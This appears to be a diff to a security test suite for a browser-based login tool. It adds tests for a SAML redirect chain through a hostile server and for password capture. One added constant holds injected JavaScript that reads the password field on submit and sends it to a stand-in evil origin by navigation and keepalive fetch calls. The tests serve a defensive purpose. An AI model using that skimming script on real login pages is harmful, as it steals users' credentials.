@@ -147,6 +147,23 @@ def attackers_provider(scene, table):
     never(site.evil, scene.password)
 
 
+@attack(NEXT, "another server in a redirect chain does not start the profile's login", [
+    ("by a redirect", "redirect"), ("by a form", "form")])
+def chained(scene, kind):
+    site = Site(scene, "saml2")
+    # The identity provider's session is kept, too.
+    require(site.run().ends(0).out == b"in", "nothing was tested: no login")
+    asked = len(site.idp.received())
+    site.sp.answers["/r"] = redirect(site.evil.origin + "/r")
+    site.evil.answers["/r"] = (
+        redirect(site.idp.origin + "/sso?SAMLRequest=fZFN&RelayState=r") if kind == "redirect"
+        else page(SIGN_ON.format(idp=site.idp.origin)))
+    site.run()
+    arrived(site.evil, "/r", "the request of the redirect")
+    require(len(site.idp.received()) == asked, "the identity provider was asked for the other server")
+    never(site.evil, scene.password, site.session)
+
+
 @attack(NEXT, "Chromium: a field that nobody sees gets no answer", [
     ("transparent", "style='opacity: 0'"), ("off the page", "style='position: absolute; left: -9999px'")], alone=True)
 def unseen_field(scene, hidden):
@@ -157,6 +174,23 @@ def unseen_field(scene, hidden):
     outcome = site.run("--headless").ends(0)
     require(b"user=alice" in arrived(site.idp, "/enter", "the form").body, f"nothing was tested: {outcome.says()}")
     never(site.idp, scene.password)
+
+
+HOLDS = """<script>document.forms[0].onsubmit = event => {
+  event.preventDefault();
+  const p = document.forms[0].password.value;
+  location = '{evil}/take?' + p;
+  setTimeout(() => { for (let i = 0; i < 5; i++) fetch('{evil}/keep?' + p, {mode: 'no-cors', keepalive: true}) }, 8);
+}</script>"""
+
+
+@attack(NEXT, "Chromium: the end of a login sends no answers that were held", alone=True)
+def held_requests(scene):
+    site = Site(scene)
+    site.idp.answers["/sso"] = page("<form method=post action=/enter>" + FIELDS + HOLDS.replace("{evil}", site.evil.origin))
+    outcome = site.run("--headless").ends(67)
+    require(site.evil.origin.encode() in outcome.err, f"nothing was tested: {outcome.says()}")
+    never(site.evil, scene.password)
 
 
 @attack(NEXT, "without a person, a page's only link is no decision", [
